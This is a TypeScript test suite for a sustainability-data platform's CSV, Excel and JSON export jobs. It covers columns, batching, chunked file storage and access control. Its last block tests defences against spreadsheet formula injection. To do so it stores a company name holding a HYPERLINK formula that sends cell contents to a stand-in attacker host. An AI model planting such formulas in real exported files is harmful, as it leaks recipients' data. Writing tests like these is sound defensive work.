import { randomBytes, randomUUID } from "node:crypto";
import { exportColumns } from "@openverde/frameworks";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestPlatform, type TestPlatform } from "../../testing/test-platform";
import { CHUNK_BYTES, ChunkSink, exportFileSlices, exportRows } from "./exports";
import { datasetsDb } from "./store";
import { company, completeDataset, json, type TestUser, user, withoutNulls } from "./test-helpers";

let platform: TestPlatform;
let admin: TestUser;
let reader: TestUser;
const companies: { companyId: string; lei: string }[] = [];
let sfdr: Record<string, unknown>;

beforeAll(async () => {
  platform = await startTestPlatform();
  admin = await user(platform, "ex-admin", ["ROLE_USER", "ROLE_ADMIN"]);
  reader = await user(platform, "ex-reader", ["ROLE_USER"]);
  sfdr = await completeDataset(platform, "sfdr", 11);
  for (let i = 0; i < 3; i++) {
    const stored = await company(platform);
    companies.push(stored);
    for (const period of ["2022", "2023"]) {
      const response = await platform.request(
        "/api/data/sfdr?bypassQa=true",
        json(admin.authorization, { companyId: stored.companyId, reportingPeriod: period, data: sfdr }),
      );
      expect(response.status).toBe(200);
    }
  }
});
afterAll(async () => platform?.close());

async function runExport(path: string, body: unknown, who = reader): Promise<Response> {
  const started = await platform.request(path, json(who.authorization, body));
  expect(started.status).toBe(200);
  const { id } = (await started.json()) as { id: string };
  const pending = await platform.request(`/api/export/${id}/state`, json(who.authorization));
  expect(await pending.json()).toBe("Pending");
  await platform.background.settle();
  const state = await platform.request(`/api/export/${id}/state`, json(who.authorization));
  expect(await state.json()).toBe("Success");
  expect(
    (
      await platform.request(
        `/api/export/${id}/state`,
        json(
          admin.authorization === who.authorization
            ? reader.authorization
            : (
                await user(platform, "ex-other")
              ).authorization,
        ),
      )
    ).status,
  ).toBe(404);
  const download = await platform.request(`/api/export/${id}/download`, json(who.authorization));
  expect(download.status).toBe(200);
  return download;
}

const ids = () => companies.map((c) => c.companyId);

describe("exports", () => {
  it("writes CSV with the framework's columns and aliases, one row per dataset", async () => {
    const download = await runExport("/api/data/sfdr/export-jobs", {
      companyIds: ids(),
      reportingPeriods: ["2022", "2023"],
      fileFormat: "CSV",
    });
    expect(download.headers.get("content-type")).toContain("text/csv");
    const lines = (await download.text()).trim().split("\r\n");
    expect(lines).toHaveLength(1 + 6);
    const header = (lines[0] as string).split(",");
    expect(header.slice(0, 4)).toEqual(["companyId", "companyName", "companyLei", "reportingPeriod"]);
    expect(header.slice(4, 4 + exportColumns("sfdr").length)).toEqual(
      exportColumns("sfdr").map((c) => c.alias),
    );
    for (const { lei } of companies)
      expect(lines.filter((line) => line.includes(`,${lei},`))).toHaveLength(2);
  });

  it("writes every detail column and wire paths when asked", async () => {
    const download = await runExport(
      "/api/data/sfdr/export-latest-jobs?keepValueFieldsOnly=false&includeAliases=false",
      { companyIds: ids(), fileFormat: "CSV" },
    );
    const lines = (await download.text()).trim().split("\r\n");
    expect(lines).toHaveLength(1 + 3);
    const header = lines[0] as string;
    expect(header).toContain("environmental.greenhouseGasEmissions.scope1GhgEmissionsInTonnes,");
    expect(header).toContain("environmental.greenhouseGasEmissions.scope1GhgEmissionsInTonnes.quality");
    expect(header).toContain(
      "environmental.greenhouseGasEmissions.scope1GhgEmissionsInTonnes.dataSource.page",
    );
    expect(lines.slice(1).every((line) => line.includes(",2023,"))).toBe(true);
  });

  it("writes an Excel workbook that opens", async () => {
    const download = await runExport("/api/data/sfdr/export-jobs", {
      companyIds: ids(),
      reportingPeriods: ["2023"],
      fileFormat: "EXCEL",
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await download.arrayBuffer());
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    expect(sheet.rowCount).toBe(1 + 3);
    expect(sheet.getRow(1).getCell(4).value).toBe("reportingPeriod");
    expect(sheet.getRow(2).getCell(4).value).toBe("2023");
    const scope1 = exportColumns("sfdr").findIndex((c) => c.alias === "SCOPE_1_GHG_EMISSIONS_IN_T");
    const environmental = sfdr.environmental as Record<string, Record<string, { value: number }>>;
    expect(sheet.getRow(2).getCell(5 + scope1).value).toBe(
      environmental.greenhouseGasEmissions?.scope1GhgEmissionsInTonnes?.value,
    );
  });

  it("writes JSON with the datasets as uploaded", async () => {
    const download = await runExport("/api/data/sfdr/export-latest-jobs", {
      companyIds: ids(),
      fileFormat: "JSON",
    });
    const body = (await download.json()) as { companyId: string; reportingPeriod: string; data: unknown }[];
    expect(body).toHaveLength(3);
    expect(body.every((entry) => entry.reportingPeriod === "2023")).toBe(true);
    expect(withoutNulls(body[0]?.data)).toEqual(withoutNulls(sfdr));
  });

  it("reads the datasets in batches of a bounded number of companies, in company order", async () => {
    const db = datasetsDb(platform.database.db);
    const unknown = "ffffffff-ffff-4fff-bfff-ffffffffffff";
    const sorted = [...ids()].sort();
    const latest = [];
    for await (const batch of exportRows(
      db,
      "sfdr",
      { latest: true, companyIds: [...ids(), unknown], reportingPeriods: [] },
      2,
    ))
      latest.push(batch.map((row) => `${row.companyId}/${row.reportingPeriod}`));
    expect(latest).toEqual([[`${sorted[0]}/2023`, `${sorted[1]}/2023`], [`${sorted[2]}/2023`]]);
    const periods = [];
    for await (const batch of exportRows(
      db,
      "sfdr",
      { latest: false, companyIds: ids().map((id) => id.toUpperCase()), reportingPeriods: ["2022", "2023"] },
      2,
    ))
      periods.push(batch.length);
    expect(periods).toEqual([4, 2]);
  });

  it("stores the file in whole chunks of 1 MiB, whatever the sizes written", async () => {
    const db = datasetsDb(platform.database.db);
    const exportJobId = randomUUID();
    await db
      .insertInto("dataset_export_job")
      .values({
        export_job_id: exportJobId,
        user_id: reader.userId,
        data_type: "sfdr",
        request: "{}",
        file_format: "CSV",
      })
      .execute();
    // Small writes, one that crosses a boundary, one larger than a chunk, and text with multi-byte characters.
    const pieces = [
      randomBytes(1000),
      randomBytes(CHUNK_BYTES - 1500),
      randomBytes(2 * CHUNK_BYTES + 700),
      Buffer.from("Größe,€\r\n".repeat(5000)),
    ];
    const sink = new ChunkSink(db, exportJobId);
    for (const piece of pieces) if (!sink.write(piece)) await new Promise((r) => sink.once("drain", r));
    await new Promise<void>((resolve, reject) => {
      sink.once("error", reject);
      sink.end(resolve);
    });
    const expected = Buffer.concat(pieces);
    const chunks = await db
      .selectFrom("dataset_export_chunk")
      .select(["seq", "data"])
      .where("export_job_id", "=", exportJobId)
      .orderBy("seq")
      .execute();
    expect(sink.size).toBe(expected.length);
    expect(chunks.map((chunk) => chunk.seq)).toEqual([0, 1, 2, 3]);
    expect(chunks.slice(0, 3).every((chunk) => chunk.data.length === CHUNK_BYTES)).toBe(true);
    expect(Buffer.concat(chunks.map((chunk) => chunk.data)).equals(expected)).toBe(true);
    // The download reads the chunks back in slices, across every chunk's end.
    const slices: Buffer[] = [];
    for await (const slice of exportFileSlices(db, exportJobId)) slices.push(slice);
    expect(slices.length).toBeGreaterThan(chunks.length);
    expect(slices.every((slice) => slice.length > 0)).toBe(true);
    expect(Buffer.concat(slices).equals(expected)).toBe(true);
  });

  it("answers 404 when nothing matches and 400 for bad input", async () => {
    const empty = await platform.request(
      "/api/data/lksg/export-latest-jobs",
      json(reader.authorization, { companyIds: ids(), fileFormat: "CSV" }),
    );
    expect(empty.status).toBe(404);
    const bad = await platform.request(
      "/api/data/sfdr/export-latest-jobs",
      json(reader.authorization, { companyIds: ids(), fileFormat: "PDF" }),
    );
    expect(bad.status).toBe(400);
    const anonymous = await platform.request("/api/data/sfdr/export-latest-jobs", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ companyIds: ids(), fileFormat: "CSV" }),
    });
    expect(anonymous.status).toBe(401);
    expect((await platform.request("/api/export/not-a-job/state", json(reader.authorization))).status).toBe(
      404,
    );
  });
});

describe("exports a spreadsheet cannot run", () => {
  const hostileName = '=HYPERLINK("http://attacker.example/?"&A1,"Open")';
  const hostileComment = "@SUM(1)";
  const commentHeader = "SCOPE_1_GHG_EMISSIONS_IN_T.comment";
  let hostileCompanyId: string;

  beforeAll(async () => {
    const created = await platform.request(
      "/api/companies",
      json(admin.authorization, {
        companyName: hostileName,
        headquarters: "Hamburg",
        countryCode: "DE",
        identifiers: {},
      }),
    );
    expect(created.status).toBe(200);
    hostileCompanyId = ((await created.json()) as { companyId: string }).companyId;
    const data = structuredClone(sfdr) as {
      environmental: { greenhouseGasEmissions: { scope1GhgEmissionsInTonnes: { comment?: string } } };
    };
    data.environmental.greenhouseGasEmissions.scope1GhgEmissionsInTonnes.comment = hostileComment;
    const uploaded = await platform.request(
      "/api/data/sfdr?bypassQa=true",
      json(admin.authorization, { companyId: hostileCompanyId, reportingPeriod: "2024", data }),
    );
    expect(uploaded.status).toBe(200);
  });

  it("writes a company name and a comment that start a formula as text with a leading apostrophe", async () => {
    const download = await runExport("/api/data/sfdr/export-jobs?keepValueFieldsOnly=false", {
      companyIds: [hostileCompanyId],
      reportingPeriods: ["2024"],
      fileFormat: "CSV",
    });
    const [header, row, ...rest] = parse(await download.text()) as string[][];
    expect(rest).toEqual([]);
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell("companyName")).toBe(`'${hostileName}`);
    expect(cell(commentHeader)).toBe(`'${hostileComment}`);
    // Whatever else the dataset holds: a cell may start like a formula only when it is a number.
    for (const value of row ?? [])
      if (/^[=+\-@\t\r]/.test(value)) expect(Number.isFinite(Number(value)), value).toBe(true);
  });

  it("writes them into a workbook as text cells, never as formulas", async () => {
    const download = await runExport("/api/data/sfdr/export-jobs?keepValueFieldsOnly=false", {
      companyIds: [hostileCompanyId],
      reportingPeriods: ["2024"],
      fileFormat: "EXCEL",
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await download.arrayBuffer());
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const headers = sheet.getRow(1).values as unknown[];
    const cell = (name: string) => sheet.getRow(2).getCell(headers.indexOf(name));
    for (const [name, text] of [
      ["companyName", hostileName],
      [commentHeader, hostileComment],
    ] as const) {
      expect(cell(name).type).toBe(ExcelJS.ValueType.String);
      expect(cell(name).value).toBe(text);
    }
    sheet.eachRow((row) => row.eachCell((each) => expect(each.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
